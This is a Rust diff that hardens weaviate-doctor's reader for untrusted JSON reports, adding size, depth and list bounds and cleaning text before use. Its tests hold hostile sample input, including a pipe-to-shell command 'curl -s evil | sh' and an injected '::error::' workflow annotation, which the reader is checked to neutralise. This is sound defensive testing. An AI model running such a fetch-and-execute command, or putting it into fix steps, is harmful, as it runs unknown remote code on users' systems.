@@ -1,25 +1,57 @@
 //! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.
 
 use super::schema::{Report, VERSION};
-use crate::clean::{Clean, is_invisible};
+use crate::clean::{Clean, is_invisible, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
 
 /// Longest report that is read, in bytes.
-pub const MOST_BYTES: usize = 16 * 1024 * 1024;
+pub const MAX_REPORT_BYTES: u64 = 16 * 1024 * 1024;
 
-/// Longest line of text in it, in characters.
-const LONGEST_LINE: usize = 4000;
+/// Most text in it altogether, names of fields too, in bytes. The largest that this program writes is `build`'s bound on places and some
+/// 100 KiB.
+const MAX_TEXT_BYTES: usize = 4 << 20;
 
-/// Most lines of one text: code and commands have several.
-const MOST_LINES: usize = 2000;
+/// Longest text, in characters. What is longer is cut and ends in `…`.
+const MAX_TEXT_CHARS: usize = 4000;
 
-/// Most probes and most causes; this program's own reports have about twenty probes.
-const MOST_ITEMS: usize = 1000;
+/// Longest code, in characters and lines. What is longer is cut.
+const MAX_CODE_CHARS: usize = 64 * 1024;
+const MAX_CODE_LINES: usize = 2000;
 
-/// Reads a report. Control and bidirectional characters in it are removed. Deeper nesting than 128 levels is an error of the JSON reader.
+/// Most values altogether, and how deep they are nested.
+const MAX_VALUES: usize = 200_000;
+const MAX_DEPTH: usize = 12;
+
+/// Most places in source files, which is as many as a scan keeps.
+const MAX_PLACES: usize = 10_000;
+
+/// Most items of the lists that a page or a document shows item by item; this program's own reports have some ten.
+const MAX_SHOWN_ITEMS: usize = 100;
+
+/// Most items of any other list: probes, and what one found.
+const MAX_ITEMS: usize = 1000;
+
+const fn most_items(name: &str) -> usize {
+    match name.as_bytes() {
+        b"findings" => MAX_PLACES,
+        b"steps" | b"links" | b"evidence" | b"places" | b"causes" | b"clients" | b"proxies" | b"choices"
+        | b"answers" => MAX_SHOWN_ITEMS,
+        _ => MAX_ITEMS,
+    }
+}
+
+/// Reads a report. Control and bidirectional characters in it are removed, texts that are too long are cut, and what has more of anything
+/// than any report of this program is refused.
 pub fn read(text: &str) -> anyhow::Result<Report> {
-    ensure!(text.len() <= MOST_BYTES, "a report is at most {} MB long", MOST_BYTES / 1024 / 1024);
+    ensure!(
+        u64::try_from(text.len()).is_ok_and(|n| n <= MAX_REPORT_BYTES),
+        "a report is at most {} MiB long",
+        MAX_REPORT_BYTES >> 20
+    );
+    // Every value in memory is many times as long as here, so they are counted before any is made. Most commas stand between values.
+    let commas = text.bytes().filter(|b| *b == b',').count();
+    ensure!(commas <= MAX_VALUES + MAX_TEXT_BYTES / 4, "it holds more values than any report of weaviate-doctor");
     // What a newer schema looks like is not known, so its version is looked at before its shape.
     let mut value: Value = serde_json::from_str(text.trim_start_matches('\u{feff}'))
         .map_err(|error| anyhow::anyhow!("it isn't valid JSON (line {}, column {})", error.line(), error.column()))?;
@@ -28,63 +60,114 @@ pub fn read(text: &str) -> anyhow::Result<Report> {
     if version > u64::from(VERSION) {
         bail!("its schema version is {version}, and this program reads up to {VERSION}: use a newer weaviate-doctor");
     }
-    clean(&mut value);
-    let report: Report = serde_json::from_value(value).map_err(|error| {
+    Budget { text: MAX_TEXT_BYTES, values: MAX_VALUES }.take(&mut value, "", MAX_DEPTH)?;
+    serde_json::from_value(value).map_err(|error| {
         anyhow::anyhow!("it isn't a report of weaviate-doctor: {}", Clean::up_to(&error.to_string(), 200))
-    })?;
-    let most = report.probes.len().max(report.diagnosis.causes.len());
-    ensure!(most <= MOST_ITEMS, "it has {most} probes or causes, which no report has");
-    Ok(report)
+    })
 }
 
-fn clean(value: &mut Value) {
-    match value {
-        Value::String(text) => {
-            if let Some(cleaned) = cleaned(text) {
-                *text = cleaned;
+/// What a report may still hold.
+struct Budget {
+    text: usize,
+    values: usize,
+}
+
+impl Budget {
+    /// Cleans a value and everything in it, within what is left. `name` is that of the field that it is in.
+    fn take(&mut self, value: &mut Value, name: &str, depth: usize) -> anyhow::Result<()> {
+        ensure!(depth > 0, "it is nested deeper than any report of weaviate-doctor");
+        self.values = self.values.checked_sub(1).context("it holds more values than any report of weaviate-doctor")?;
+        match value {
+            Value::String(text) => {
+                if let Some(cleaned) = cleaned(text, name) {
+                    *text = cleaned;
+                }
+                self.take_text(text)?;
             }
-        }
-        Value::Array(items) => items.iter_mut().for_each(clean),
-        Value::Object(fields) => {
-            let odd: Vec<String> = fields.keys().filter(|name| !is_plain(name)).cloned().collect();
-            for name in odd {
-                if let Some(field) = fields.remove(&name) {
-                    fields.insert(Clean::up_to(&name, 100).to_string(), field);
+            Value::Array(items) => {
+                ensure_few(items.len(), name)?;
+                for item in items {
+                    self.take(item, name, depth - 1)?;
                 }
             }
-            fields.values_mut().for_each(clean);
+            Value::Object(fields) => {
+                ensure_few(fields.len(), name)?;
+                let odd: Vec<String> =
+                    fields.keys().filter(|name| !is_plain(name) || name.len() > MAX_NAME_CHARS).cloned().collect();
+                for name in odd {
+                    if let Some(field) = fields.remove(&name) {
+                        fields.insert(Clean::up_to(&name, MAX_NAME_CHARS).to_string(), field);
+                    }
+                }
+                for (name, field) in fields.iter_mut() {
+                    self.take_text(name)?;
+                    self.take(field, name, depth - 1)?;
+                }
+            }
+            Value::Null | Value::Bool(_) | Value::Number(_) => {}
         }
-        Value::Null | Value::Bool(_) | Value::Number(_) => {}
+        Ok(())
+    }
+
+    fn take_text(&mut self, text: &str) -> anyhow::Result<()> {
+        self.text =
+            self.text.checked_sub(text.len()).context("it holds more text than any report of weaviate-doctor")?;
+        Ok(())
     }
 }
+
+fn ensure_few(count: usize, name: &str) -> anyhow::Result<()> {
+    let shown = Clean::up_to(name, 30);
+    ensure!(count <= most_items(name), "it has {count} items in “{shown}”, which no report has");
+    Ok(())
+}
+
+/// Longest name of a field, in characters.
+const MAX_NAME_CHARS: usize = 100;
 
 fn is_plain(text: &str) -> bool {
     let harmless = |c: char| c == ' ' || !(c.is_control() || c.is_whitespace() || is_invisible(c));
-    text.len() <= LONGEST_LINE && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
+    let bare = !text.contains("::") && !text.contains("##");
+    bare && text.len() <= MAX_TEXT_CHARS
+        && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
 }
 
-/// The text line by line without what steers a terminal; none when there is nothing to clean. Indentation stays, since code needs it.
-fn cleaned(text: &str) -> Option<String> {
+/// The text without what steers a terminal, on one line, but for code; none when there is nothing to clean. Everything else that has
+/// several lines would begin a line of its own in some document, or run in a shell before its reader has seen it all.
+fn cleaned(text: &str, name: &str) -> Option<String> {
     if is_plain(text) {
         return None;
     }
+    if name != "code" {
+        let lines = text.lines().map(inside).collect::<Vec<_>>().join(" ");
+        return Some(cut(without_commands(&lines), MAX_TEXT_CHARS));
+    }
+    // Indentation stays, since code needs it.
     let line = |line: &str| {
         let indent = line.len() - line.trim_start_matches([' ', '\t']).len();
-        format!("{}{}", line[..indent].replace('\t', "    "), inside(&line[indent..]))
+        format!("{}{}", line[..indent].replace('\t', "    "), without_commands(&inside(&line[indent..])))
     };
-    Some(text.lines().take(MOST_LINES).map(line).collect::<Vec<_>>().join("\n"))
+    let text = text.chars().take(MAX_CODE_CHARS).collect::<String>();
+    Some(text.lines().take(MAX_CODE_LINES).map(line).collect::<Vec<_>>().join("\n"))
 }
 
 /// Spaces inside a line stay as they are; everything else as [`Clean`] has it.
 fn inside(text: &str) -> String {
-    text.trim_end().split(' ').map(|word| Clean::up_to(word, LONGEST_LINE).to_string()).collect::<Vec<_>>().join(" ")
+    text.trim_end().split(' ').map(|word| Clean::up_to(word, MAX_TEXT_CHARS).to_string()).collect::<Vec<_>>().join(" ")
+}
+
+fn cut(text: String, longest: usize) -> String {
+    match text.char_indices().nth(longest) {
+        None => text,
+        Some(_) => text.chars().take(longest - 1).chain(['…']).collect(),
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::report::json;
-    use crate::report::schema::Snippet;
+    use crate::report::schema::{Place, Snippet};
     use crate::report::text::tests::report;
     use std::time::Instant;
 
@@ -108,7 +191,7 @@ mod tests {
             (good.replace("\"probes\": [", "\"probes\": [7, "), "isn't a report of weaviate-doctor: invalid type"),
             (deep, "isn't valid JSON"),
             (deep_inside, "isn't valid JSON"),
-            (format!("{good}{}", " ".repeat(MOST_BYTES)), "at most 16 MB"),
+            (format!("{good}{}", " ".repeat(16 << 20)), "at most 16 MiB"),
         ];
         for (text, expected) in table {
             let why = refused(&text);
@@ -141,21 +224,89 @@ mod tests {
         assert!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code.starts_with("if x:\n    return  "));
     }
 
+    /// As much as this program may ever write, and some more.
     #[test]
-    fn five_megabytes_are_read_at_once() {
+    fn the_largest_report_is_read_at_once() {
         let mut large = report();
-        let fact = Value::Array(vec![Value::String("a name — and what was said about it".repeat(3)); 40]);
-        let probe = large.probes[0].clone();
-        for i in 0..900 {
-            let mut probe = probe.clone();
-            probe.facts.insert(format!("fact {i}"), fact.clone());
-            large.probes.push(probe);
-        }
+        let place = Place {
+            path: "a/long/path/of/a/project/with/folders/app.py".to_owned(),
+            line: 7,
+            column: 1,
+            end_line: 7,
+            end_column: 9,
+            cell: None,
+            cell_line: None,
+            cause: "key-in-source".to_owned(),
+            confidence: "certain".to_owned(),
+            message: "The key stands in the source, where everybody who reads the file can take it — and use it."
+                .to_owned(),
+            fixable: false,
+        };
+        large.findings = vec![place; MAX_PLACES];
         let text = json(&large).unwrap();
-        assert!(text.len() > 5_000_000, "{}", text.len());
         let start = Instant::now();
         assert_eq!(read(&text).unwrap(), large);
         // Without optimisation and beside other work; an optimised build takes a small part of it.
         assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
+    }
+
+    #[test]
+    fn lists_texts_and_nesting_are_bounded() {
+        let refusing = |change: &dyn Fn(&mut Value)| {
+            let mut value = serde_json::to_value(report()).unwrap();
+            change(&mut value);
+            refused(&value.to_string())
+        };
+        let texts = |n: usize| Value::Array(vec![Value::String("https://docs.weaviate.io/x".to_owned()); n]);
+        let cause = |v: &mut Value, name: &str, to: Value| v["diagnosis"]["causes"][0][name] = to;
+        let step = serde_json::json!({"text": "x"});
+        let table: [(&str, &dyn Fn(&mut Value)); 14] = [
+            ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
+            ("“steps”", &|v| {
+                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000])
+            }),
+            ("“evidence”", &|v| cause(v, "evidence", texts(101))),
+            ("“places”", &|v| cause(v, "places", texts(101))),
+            ("“causes”", &|v| {
+                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101])
+            }),
+            ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
+            ("“clients”", &|v| v["clients"] = texts(101)),
+            ("“proxies”", &|v| v["proxies"] = texts(101)),
+            ("“findings”", &|v| v["findings"] = texts(10_001)),
+            ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
+            ("“facts”", &|v| {
+                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect()
+            }),
+            ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
+            ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
+            ("more values", &|v| {
+                let row = Value::Array(vec![Value::from(1); 1000]);
+                v["probes"][0]["facts"]["rows"] = Value::Array(vec![row; 1000]);
+            }),
+        ];
+        for (expected, change) in table {
+            let why = refusing(change);
+            assert!(why.contains(expected), "{expected}: {why}");
+        }
+        let nested = |depth: usize| (0..depth).fold(Value::from(1), |inner, _| Value::Array(vec![inner]));
+        assert!(refusing(&|v| v["probes"][0]["facts"]["deep"] = nested(20)).contains("deeper"));
+    }
+
+    #[test]
+    fn long_texts_are_cut_and_only_code_has_lines() {
+        let mut hostile = report();
+        hostile.probes[0].summary = "x".repeat(100_000);
+        hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
+        hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
+        hostile.diagnosis.causes[0].fix.snippet =
+            Some(Snippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
+        let read = read(&json(&hostile).unwrap()).unwrap();
+        let fix = &read.diagnosis.causes[0].fix;
+        assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
+        assert_eq!(fix.title, "a : :error::b c");
+        assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
+        let code = &fix.snippet.as_ref().unwrap().code;
+        assert!(code.len() <= MAX_CODE_CHARS && code.lines().count() == MAX_CODE_LINES, "{}", code.len());
     }
 }
